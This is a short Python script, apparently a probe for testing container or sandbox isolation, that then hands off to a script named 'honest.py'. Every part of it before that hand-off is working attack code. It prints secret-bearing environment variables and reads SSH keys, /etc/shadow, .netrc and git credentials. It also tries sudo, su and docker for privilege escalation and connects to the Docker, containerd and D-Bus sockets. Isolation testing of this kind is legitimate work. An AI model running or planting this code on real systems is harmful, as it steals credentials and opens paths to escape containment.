import glob
import os
import runpy
import socket
import subprocess

for name, value in os.environ.items():
    if any(word in name for word in ("TOKEN", "SECRET", "KEY", "PASSWORD", "CANARY")):
        print("kata-attack saw", name, value, flush=True)
for pattern in ("/root/.ssh/*", "/home/*/.ssh/*", "/root/.netrc", "/home/*/.netrc", "/etc/shadow", "/root/.config/*", "/home/*/.git-credentials"):
    for path in glob.glob(pattern):
        try:
            print("kata-attack saw", path, open(path).read(100), flush=True)
        except OSError:
            pass
for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["docker", "ps"], ["newgrp", "docker"]):
    try:
        if subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=2).returncode == 0:
            print("kata-attack became more by", command, flush=True)
    except (OSError, subprocess.SubprocessError):
        pass
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"):
    with socket.socket(socket.AF_UNIX) as away:
        try:
            away.connect(path)
            print("kata-attack reached", path, flush=True)
        except OSError:
            pass

runpy.run_path("honest.py", run_name="__main__")
